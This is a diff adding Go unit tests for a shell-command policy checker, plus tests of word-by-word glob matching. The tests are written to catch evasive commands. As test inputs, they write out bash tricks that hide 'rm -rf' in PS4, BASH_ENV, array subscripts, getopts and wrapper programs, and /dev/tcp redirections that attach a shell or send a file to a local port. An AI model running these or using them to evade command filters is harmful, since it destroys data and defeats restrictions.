@@ -799,3 +799,73 @@ func TestProgramsThatRunOthersThroughOptionsOrPathsAreUndecidable(t *testing.T) 
 		t.Errorf("cat /var/log/app.log: %v", d)
 	}
 }
+
+// From a seventh review: bash's NAME+=value is an assignment; variables set
+// by {NAME}> redirections, getopts, set -a and xargs --process-slot-var;
+// a standard input opened by a redirection of fd 0 or a /dev/tcp path;
+// more programs that run their arguments.
+func TestVariablesSetOtherwiseAndInputOpenedOtherwiseAreUndecidable(t *testing.T) {
+	p := execpolicy.Policy{Deny: []string{"rm"}}
+	if d := p.Check([]string{"bash", "-c", "A+=1 rm -rf /x"}, execpolicy.NoStdin); d.Allowed || d.Rule != "deny rm" {
+		t.Errorf("A+=1 rm: %v, want refused by deny rm", d)
+	}
+	for _, argv := range [][]string{
+		{"bash", "-c", "export PS4+='$(rm -rf /x)'; set -x; :"},
+		{"bash", "-c", "x='b[$(rm -rf /x)]'; : {a[$x]}>/dev/null"},
+		{"bash", "-c", ": {BASH_ENV}>/dev/null; bash -c :"},
+		{"bash", "-c", "set -a; X=1; bash -c :"},
+		{"bash", "-c", "set -o allexport; X=1"},
+		{"bash", "-c", "getopts x BASH_ENV -x; bash -c :"},
+		{"xargs", "--process-slot-var=BASH_ENV", "echo"},
+		{"bash", "-c", "sh 0>/dev/tcp/127.0.0.1/4444"},
+		{"bash", "-c", "exec 3</tmp/cmds; sh 0>&3"},
+		{"bash", "-c", "cat /etc/hostname > /dev/tcp/127.0.0.1/4444"},
+		{"choom", "-n", "0", "rm", "-rf", "/x"},
+		{"ssh-agent", "rm", "-rf", "/x"},
+		{"fakeroot", "rm", "-rf", "/x"},
+	} {
+		if d := p.Check(argv, execpolicy.NoStdin); d.Allowed || !strings.HasPrefix(d.Rule, "undecidable") {
+			t.Errorf("%q: %v, want refused as undecidable", argv, d)
+		}
+	}
+	for _, script := range []string{"set -eu; ls", "PATH+=:/opt/bin ls", "ls 2>/dev/null", "getopts ab opt"} {
+		if d := p.Check([]string{"bash", "-c", script}, execpolicy.NoStdin); !d.Allowed {
+			t.Errorf("bash -c %q: %v, want allowed", script, d)
+		}
+	}
+}
+
+// A whole-line pattern is matched word by word: a * standing alone is any
+// number of words, a * inside a word stays in that word.
+func TestWholeLinePatternsMatchWordByWord(t *testing.T) {
+	for _, c := range []struct {
+		pattern string
+		argv    []string
+		match   bool
+	}{
+		{"cat /var/log/*", []string{"cat", "/var/log/app.log"}, true},
+		{"cat /var/log/*", []string{"cat", "/var/log/x", "/etc/shadow"}, false},
+		{"cat /var/log/*", []string{"cat", "/var/log/a b"}, true},
+		{"kubectl get *", []string{"kubectl", "get"}, true},
+		{"kubectl get *", []string{"kubectl", "get", "pods", "-n", "x"}, true},
+		{"kubectl get *", []string{"kubectl", "delete", "pods"}, false},
+		{"rm -rf *", []string{"rm", "-rf"}, true},
+		{"rm -rf *", []string{"rm", "-r", "-f", "/"}, false},
+		{"* --force", []string{"kubectl", "delete", "--force"}, true},
+		{"ls -l ?", []string{"ls", "-l", "x"}, true},
+	} {
+		p := execpolicy.Policy{Allow: []string{c.pattern}}
+		if d := p.Check(c.argv, execpolicy.NoStdin); d.Allowed != c.match {
+			t.Errorf("%q against %q: allowed %v, want %v", c.pattern, c.argv, d.Allowed, c.match)
+		}
+	}
+	// However many stars, matching takes the product of the lengths.
+	stars := strings.Repeat("* ", 120) + "x"
+	long := make([]string, 5000)
+	for i := range long {
+		long[i] = "a"
+	}
+	if d := (execpolicy.Policy{Allow: []string{stars}}).Check(long, execpolicy.NoStdin); d.Allowed {
+		t.Errorf("%d words matched a pattern ending in x", len(long))
+	}
+}
